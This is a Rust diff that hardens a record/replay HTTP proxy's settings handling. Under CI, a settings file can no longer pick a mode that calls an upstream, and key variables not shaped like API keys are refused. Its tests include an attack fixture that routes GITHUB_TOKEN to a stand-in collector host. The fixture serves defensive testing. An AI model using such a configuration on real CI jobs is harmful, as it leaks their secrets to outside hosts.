@@ -147,6 +147,17 @@ pub(crate) struct RecorderArgs {
     #[arg(long, env = "CASSETTE_UPSTREAM_TIMEOUT", value_name = "SECONDS")]
     upstream_timeout: Option<u64>,
 
+    /// Let a route's `api_key_env` in cassette.toml name this variable although it does not
+    /// look like an API key's (`*_KEY`): the file alone cannot send any variable upstream.
+    /// Repeatable; the variable takes a comma-separated list.
+    #[arg(
+        long = "allow-key-env",
+        env = "CASSETTE_ALLOW_KEY_ENV",
+        value_name = "VAR",
+        value_delimiter = ','
+    )]
+    allow_key_env: Vec<String>,
+
     /// same (every repeat of a request gets its one answer) or sequence (the n-th time a
     /// request is sent in this session gets its n-th recording; one more than recorded is a
     /// miss) [default: same].
@@ -196,6 +207,12 @@ impl RecorderArgs {
     /// defaults and validates everything that spans several settings; no IO but reading the
     /// environment variables that hold the routes' keys.
     pub(crate) fn resolve(&self, file: &SettingsFile) -> anyhow::Result<RecorderSettings> {
+        self.resolve_in(file, Ci::from_env())
+    }
+
+    /// [`RecorderArgs::resolve`], told whether this runs under CI.
+    fn resolve_in(&self, file: &SettingsFile, ci: Ci) -> anyhow::Result<RecorderSettings> {
+        let mode = self.mode(file, ci)?;
         let store = self.store.resolve(file);
         let cache = self.cache.clone().or_else(|| file.cache.clone());
         if let Some(cache) = &cache {
@@ -210,9 +227,9 @@ impl RecorderArgs {
         } else {
             self.record_errors || file.record_errors.unwrap_or(false)
         };
-        let (routes, keys) = self.routes(file)?;
+        let (routes, keys) = self.routes(file, mode)?;
         let config = RecorderConfig {
-            mode: self.mode.or(file.mode).unwrap_or_default(),
+            mode,
             routes,
             errors: if record_errors {
                 ErrorRecording::Record
@@ -259,9 +276,39 @@ impl RecorderArgs {
         })
     }
 
+    /// The mode: the flag or `CASSETTE_MODE`, else the file's, else replay. Under CI a mode
+    /// that calls an upstream must come from the command line or the environment: a settings
+    /// file checked in by anyone (a pull request) would otherwise turn a replay job into one
+    /// that sends the job's keys out.
+    fn mode(&self, file: &SettingsFile, ci: Ci) -> anyhow::Result<Mode> {
+        if let Some(mode) = self.mode {
+            return Ok(mode);
+        }
+        let Some(mode) = file.mode else {
+            return Ok(Mode::default());
+        };
+        if ci == Ci::Yes && mode.may_call_upstream() {
+            bail!(
+                "{} sets mode = \"{mode}\", and under CI (the CI variable is set) a settings file \
+                 alone never turns replay into a mode that calls an upstream: set \
+                 CASSETTE_MODE={mode} (or --mode {mode}) in the CI job if it is meant to call \
+                 one, or take `mode` out of the file",
+                file.path
+                    .as_deref()
+                    .map_or("the settings file".into(), |p| p.display().to_string())
+            );
+        }
+        Ok(mode)
+    }
+
     /// The routes: the built-ins, the file's `[routes.NAME]`, `--upstream`/`UPSTREAM_BASE`,
-    /// then `--route` overrides; each with its key read from the environment.
-    fn routes(&self, file: &SettingsFile) -> anyhow::Result<(Vec<Route>, Vec<RouteKey>)> {
+    /// then `--route` overrides; each with its key read from the environment. Key variables
+    /// are checked only when the mode may call an upstream: replay never sends a key.
+    fn routes(
+        &self,
+        file: &SettingsFile,
+        mode: Mode,
+    ) -> anyhow::Result<(Vec<Route>, Vec<RouteKey>)> {
         let mut routes: Vec<Route> = std::iter::once((DEFAULT_TARGET, DEFAULT_UPSTREAM))
             .chain(BUILT_IN_ROUTES.iter().copied())
             .map(|(name, base_url)| Route::new(name, base_url))
@@ -300,9 +347,66 @@ impl RecorderArgs {
                 None => routes.push((*given).clone()),
             }
         }
+        if mode.may_call_upstream() {
+            self.check_key_variables(file)?;
+        }
         let keys = read_keys(&mut routes, file);
         Ok((routes, keys))
     }
+
+    /// Refuses an `api_key_env` of the file that names a variable of no API key's shape unless
+    /// the command line or environment allows it: a file must not be able to send
+    /// `GITHUB_TOKEN` (or any other secret of the job) to an upstream it names.
+    fn check_key_variables(&self, file: &SettingsFile) -> anyhow::Result<()> {
+        for route in &file.routes {
+            let Some(Some(var)) = &route.api_key_env else {
+                continue;
+            };
+            if is_key_shaped(var) || self.allow_key_env.iter().any(|a| a.trim() == var) {
+                continue;
+            }
+            bail!(
+                "{}: [routes.{}] api_key_env = \"{var}\" does not name an API-key variable of a \
+                 known shape (*_API_KEY, *_KEY or a built-in one), and a settings file alone \
+                 never sends another variable's value upstream; allow it with --allow-key-env \
+                 {var} or CASSETTE_ALLOW_KEY_ENV={var}, or rename the variable",
+                file.path
+                    .as_deref()
+                    .map_or("the settings file".into(), |p| p.display().to_string()),
+                route.name
+            );
+        }
+        Ok(())
+    }
+}
+
+/// Whether the environment says this runs under CI (`CI` set to anything but empty, `0` or
+/// `false`, as GitHub Actions, GitLab, CircleCI, Buildkite and others set it).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Ci {
+    Yes,
+    No,
+}
+
+impl Ci {
+    fn from_env() -> Ci {
+        match std::env::var("CI") {
+            Ok(v) if !matches!(v.trim().to_ascii_lowercase().as_str(), "" | "0" | "false") => {
+                Ci::Yes
+            }
+            _ => Ci::No,
+        }
+    }
+}
+
+/// Whether `var` looks like the name of an API key's variable: `*_KEY` (so `*_API_KEY`) or
+/// one of the built-in sources.
+fn is_key_shaped(var: &str) -> bool {
+    var.ends_with("_KEY")
+        || std::iter::once(DEFAULT_TARGET)
+            .chain(BUILT_IN_ROUTES.iter().map(|(n, _)| *n))
+            .chain(["azure"])
+            .any(|route| built_in_key_sources(route).contains(&var))
 }
 
 /// Gives each route its key from the environment: the first set variable among its sources.
@@ -445,7 +549,7 @@ auth = "query:key"
 
     #[test]
     fn the_file_fills_what_flags_leave_unset() {
-        let settings = parse(&[]).resolve(&file(TEAM_FILE)).unwrap();
+        let settings = parse(&[]).resolve_in(&file(TEAM_FILE), Ci::No).unwrap();
         let config = &settings.config;
         assert_eq!(config.mode, Mode::Auto);
         assert_eq!(settings.store.to_string(), "file:///team/tests/cassettes");
@@ -502,7 +606,7 @@ auth = "query:key"
             "--repeats",
             "same",
         ])
-        .resolve(&file(TEAM_FILE))
+        .resolve_in(&file(TEAM_FILE), Ci::No)
         .unwrap();
         let config = &settings.config;
         assert_eq!(config.mode, Mode::Replay);
@@ -521,6 +625,82 @@ auth = "query:key"
             config.route("default").unwrap().base_url,
             "http://127.0.0.1:8"
         );
+    }
+
+    #[test]
+    fn under_ci_the_file_alone_never_chooses_a_mode_that_calls_an_upstream() {
+        for mode in ["auto", "record", "off"] {
+            let file = file(&format!("mode = \"{mode}\"\n"));
+            let err = format!("{:#}", parse(&[]).resolve_in(&file, Ci::Yes).unwrap_err());
+            assert!(err.contains("/team/cassette.toml"), "{err}");
+            assert!(err.contains(&format!("CASSETTE_MODE={mode}")), "{err}");
+            assert!(err.contains("under CI"), "{err}");
+            // Outside CI the file decides; under CI the command line (or CASSETTE_MODE) does.
+            assert_eq!(
+                parse(&[])
+                    .resolve_in(&file, Ci::No)
+                    .unwrap()
+                    .config
+                    .mode
+                    .as_str(),
+                mode
+            );
+            let flagged = parse(&["--mode", mode]).resolve_in(&file, Ci::Yes).unwrap();
+            assert_eq!(flagged.config.mode.as_str(), mode);
+        }
+        let replay = file("mode = \"replay\"\n");
+        let settings = parse(&[]).resolve_in(&replay, Ci::Yes).unwrap();
+        assert_eq!(settings.config.mode, Mode::Replay);
+    }
+
+    #[test]
+    fn a_key_variable_of_no_known_shape_needs_the_command_lines_permission() {
+        let text = "[routes.evil]\nupstream = \"https://collector.example\"\napi_key_env = \"GITHUB_TOKEN\"\n";
+        let err = format!(
+            "{:#}",
+            parse(&["--mode", "auto"])
+                .resolve_in(&file(text), Ci::No)
+                .unwrap_err()
+        );
+        assert!(
+            err.contains("/team/cassette.toml: [routes.evil] api_key_env = \"GITHUB_TOKEN\""),
+            "{err}"
+        );
+        assert!(
+            err.contains("--allow-key-env GITHUB_TOKEN")
+                && err.contains("CASSETTE_ALLOW_KEY_ENV=GITHUB_TOKEN"),
+            "{err}"
+        );
+        // The file cannot allow it itself: there is no such key.
+        let with_allow = format!("allow_key_env = [\"GITHUB_TOKEN\"]\n{text}");
+        assert!(
+            SettingsFile::parse(std::path::Path::new("/t/cassette.toml"), &with_allow).is_err()
+        );
+        // The command line can.
+        let settings = parse(&["--mode", "auto", "--allow-key-env", "GITHUB_TOKEN"])
+            .resolve_in(&file(text), Ci::No)
+            .unwrap();
+        let evil = settings.keys.iter().find(|k| k.route == "evil").unwrap();
+        assert_eq!(evil.sources, ["GITHUB_TOKEN"]);
+        // Replay sends no key anywhere, so it is not refused there.
+        assert!(parse(&[]).resolve_in(&file(text), Ci::No).is_ok());
+        // Key-shaped names and the built-in sources pass.
+        for var in [
+            "ACME_LLM_KEY",
+            "ACME_API_KEY",
+            "OPENAI_API_KEY",
+            "GOOGLE_API_KEY",
+        ] {
+            let text = format!(
+                "[routes.acme]\nupstream = \"https://x.example\"\napi_key_env = \"{var}\"\n"
+            );
+            assert!(
+                parse(&["--mode", "record"])
+                    .resolve_in(&file(&text), Ci::No)
+                    .is_ok(),
+                "{var}"
+            );
+        }
     }
 
     #[test]
